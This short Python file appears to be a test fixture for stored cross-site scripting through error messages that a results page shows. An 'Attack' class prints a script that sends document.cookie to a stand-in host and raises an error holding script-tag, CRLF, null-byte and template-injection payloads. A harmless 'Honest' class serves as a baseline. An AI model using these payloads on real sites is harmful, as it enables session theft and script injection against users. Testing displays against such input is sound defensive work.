"""Goal: have a page run a script by what an entry says of its failure.

Its message is stored and shown for years.
"""

from kit import Chance, trial

HELD = "a message that is stored as text, in one line of printable characters"
VERB = "submit"
NAME = "<img src=x onerror=alert(1)>"
MESSAGE = '"><svg onload=alert(1)>'
ENDS = ("predict_failed",)


class Attack(Chance):
    def predict(self, X):
        with trial("fail with a page"):
            print("<script>fetch('//example.invalid/'+document.cookie)</script>")
        raise ValueError("</pre><script>alert(document.domain)</script>\r\n\x00{{7*7}}")


class Honest(Chance):
    """Prints a table in HTML."""

    def __init__(self):
        print("<table><tr><td>1 &lt; 2</td></tr></table>")
